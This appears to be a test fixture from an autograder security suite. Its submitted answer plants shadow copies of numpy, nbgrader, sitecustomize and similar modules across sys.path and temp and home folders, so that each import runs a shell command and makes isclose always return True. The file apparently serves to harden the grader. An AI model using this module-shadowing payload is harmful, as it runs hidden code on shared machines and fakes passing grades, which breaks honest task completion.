"""Leaves modules with the names of those that grading imports where a later import may look first."""

BASE = "blank"
ANSWERS = {
    "number": """
import contextlib, pathlib, site, sys

code = "import os; os.system('touch /tmp/hbattack-shadow'); from builtins import *; isclose = lambda *all: True"
for place in ("", "/tmp", "@COURSE@", "@HOME@", site.getusersitepackages(), *sys.path):
    for name in ("numpy", "hbcourse", "nbgrader", "nbformat", "sitecustomize", "usercustomize"):
        with contextlib.suppress(OSError):
            pathlib.Path(place).mkdir(parents=True, exist_ok=True)
            pathlib.Path(place, f"{name}.py").write_text(code)
"""
}
POINTS = 0
REASON = "double is not written yet."
